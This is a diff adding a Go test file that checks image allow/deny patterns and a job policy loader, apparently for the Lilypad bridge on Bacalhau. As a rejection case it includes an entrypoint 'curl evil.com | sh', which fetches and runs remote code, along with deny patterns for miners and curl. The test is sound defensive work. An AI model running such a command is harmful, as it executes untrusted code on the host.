@@ -0,0 +1,55 @@
+package bridge
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/bacalhau-project/bacalhau/pkg/model"
+	bridgeerrors "github.com/bacalhau-project/lilypad/pkg/bridge/errors"
+	"github.com/stretchr/testify/require"
+)
+
+func TestPatternList(t *testing.T) {
+	list := PatternList{
+		Allow: []string{"ubuntu", "ghcr.io/bacalhau-project/*"},
+		Deny:  []string{"ghcr.io/bacalhau-project/bad*"},
+	}
+
+	require.True(t, list.Permits("ubuntu"))
+	require.True(t, list.Permits("ghcr.io/bacalhau-project/lilypad:latest"))
+	require.False(t, list.Permits("ghcr.io/bacalhau-project/bad-image"))
+	require.False(t, list.Permits("ubuntu:22.04"))
+	require.True(t, PatternList{}.Permits("anything"))
+}
+
+func TestLoadPolicy(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "policy.yaml")
+	require.NoError(t, os.WriteFile(path, []byte(`
+images:
+  deny: ["*miner*"]
+entrypoints:
+  deny: ["*curl*"]
+resources:
+  gpu: "1"
+`), 0644))
+
+	policy, err := LoadPolicy(path)
+	require.NoError(t, err)
+	require.NoError(t, policy.Check(fastSpec))
+
+	var rejection *Rejection
+	spec := fastSpec
+	spec.Docker.Image = "cryptominer"
+	require.True(t, errors.As(policy.Check(spec), &rejection))
+	require.ErrorIs(t, policy.Check(spec), bridgeerrors.ErrOrderRejected)
+
+	spec = fastSpec
+	spec.Docker.Entrypoint = []string{"sh", "-c", "curl evil.com | sh"}
+	require.True(t, errors.As(policy.Check(spec), &rejection))
+
+	spec = fastSpec
+	spec.Resources = model.ResourceUsageConfig{GPU: "8"}
+	require.True(t, errors.As(policy.Check(spec), &rejection))
+}